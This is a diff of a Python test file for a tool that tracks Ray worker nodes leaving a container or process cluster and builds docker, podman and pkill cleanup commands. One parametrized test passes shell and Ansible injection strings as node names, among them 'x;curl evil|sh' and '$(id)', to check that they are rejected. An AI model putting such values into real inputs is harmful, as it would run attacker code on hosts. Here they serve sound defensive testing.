@@ -48,23 +48,23 @@ def test_worker_of_the_inventory() -> None:
     nodes = [ray_node("worker-0", "old", start=1), ray_node("worker-0", "new", start=2), ray_node("worker-1", "x")]
     assert leave("worker-0", *nodes) == Departure("worker-0", "gpu-0", "new", runs=True, last=True, in_inventory=True)
     assert leave("worker-0", *reversed(nodes)).node_id == "new"
-
-
-def test_worker_that_is_dead_in_ray() -> None:
-    found = leave("worker-1", ray_node("worker-1", state="DEAD"))
-    assert found == Departure("worker-1", "gpu-1", "", runs=False, last=False, in_inventory=True)
+    dead = leave("worker-1", ray_node("worker-1", state="DEAD"))
+    assert dead == Departure("worker-1", "gpu-1", "", runs=False, last=False, in_inventory=True)
+    # The token stays on the machine of the head.
+    both = replace(HEALTHY, containers={"worker-0": container()})
+    assert leave("worker-0").last and not leave("worker-0", **{"gpu-0": HEALTHY, "ctl": both}).last
+    stopped = {"worker-0": replace(HEALTHY, process=replace(PROCESS_HOST, node=NodeProcess("stopped")))}
+    for processes, runs in ((PROCESSES, True), (PROCESSES | stopped, False)):
+        found = departure("worker-0", [ray_node("worker-0", "x")], planned(processes), INVENTORY, "ctl")
+        assert found == Departure("worker-0", "worker-0", "x", runs=runs, last=not runs, in_inventory=True)
+    # Of this one, the host has nothing.
+    assert departure("worker-1", [], planned(PROCESSES), INVENTORY, "ctl").machine == ""
 
 
 def test_worker_that_left_the_inventory() -> None:
     found = leave("worker-9", ray_node("worker-9"))
     assert found == Departure("worker-9", "gpu-1", "1", runs=True, last=False, in_inventory=False)
     assert leave("worker-8", ray_node("worker-8")).machine == ""
-
-
-def test_token_stays_on_the_machine_of_the_head() -> None:
-    assert leave("worker-0").last
-    both = replace(HEALTHY, containers={"worker-0": container()})
-    assert not leave("worker-0", **{"gpu-0": HEALTHY, "ctl": both}).last
 
 
 def refusals(leaving: Departure, **silent: str) -> list[tuple[str, str]]:
@@ -101,9 +101,9 @@ def test_nodes_that_a_removed_cluster_leaves_behind() -> None:
     listed = "ps -aq --filter label=argus.verl.cluster=mvp --filter name=^worker-8$"
     assert found.todo == f"on its machine: docker rm -fv $(docker {listed})"
     podman = {name: replace(there, engine=replace(there.engine, name="podman")) for name, there in MACHINES.items()}
-    assert left_behind(nodes, planned(podman).values(), "mvp", INVENTORY)[0].todo.startswith(
-        "on its machine: podman rm "
-    )
+    assert "podman rm " in left_behind(nodes, planned(podman).values(), "mvp", INVENTORY)[0].todo
+    (found,) = left_behind(nodes[1:3], planned(PROCESSES).values(), "mvp", INVENTORY)
+    assert (found.where, found.todo) == ("worker-8", "on its host: pkill -f 'node .*/mvp/nodes/worker-8$'")
 
 
 @pytest.mark.parametrize("name", ["x;curl evil|sh", "{{lookup('pipe','id')}}", "a b", "-x", "a\nb", "$(id)", ""])
@@ -112,6 +112,9 @@ def test_no_command_has_a_name_that_a_shell_or_ansible_would_evaluate(name: str)
         (found,) = left_behind([ray_node(name)], planned(machines).values(), "mvp", INVENTORY)
         assert found.todo == ODD_NAME
         assert "\n" not in found.where
+    assert outside_notes(["worker-0"], INVENTORY) == []
+    assert outside_notes(["x", "y"], INVENTORY)[0].startswith("x, y are")
+    assert outside_notes(["x", "y"], INVENTORY)[0].endswith("-e node=x")
     (note,) = outside_notes([name], INVENTORY)
     assert note.endswith(f"counted as room: {ODD_NAME}")
     assert "\n" not in note
@@ -133,21 +136,3 @@ PROCESSES = {
     "worker-0": replace(HEALTHY, process=replace(PROCESS_HOST, node=NodeProcess("running"), neighbours=["worker-9"])),
     "worker-1": replace(HEALTHY, process=replace(PROCESS_HOST, directory="/nodes/worker-1")),
 }
-
-
-def test_process_of_the_inventory() -> None:
-    nodes = [ray_node("worker-0", "x")]
-    found = departure("worker-0", nodes, planned(PROCESSES), INVENTORY, "ctl")
-    assert found == Departure("worker-0", "worker-0", "x", runs=True, last=False, in_inventory=True)
-    alone = {**PROCESSES, "worker-0": replace(HEALTHY, process=replace(PROCESS_HOST, node=NodeProcess("stopped")))}
-    found = departure("worker-0", nodes, planned(alone), INVENTORY, "ctl")
-    assert (found.runs, found.last) == (False, True)
-    # Of this one, the host has nothing.
-    assert departure("worker-1", [], planned(PROCESSES), INVENTORY, "ctl").machine == ""
-
-
-def test_process_that_stays() -> None:
-    (finding,) = left_behind(
-        [ray_node("worker-8"), ray_node("worker-9")], planned(PROCESSES).values(), "mvp", INVENTORY
-    )
-    assert (finding.where, finding.todo) == ("worker-8", "on its host: pkill -f 'node .*/mvp/nodes/worker-8$'")
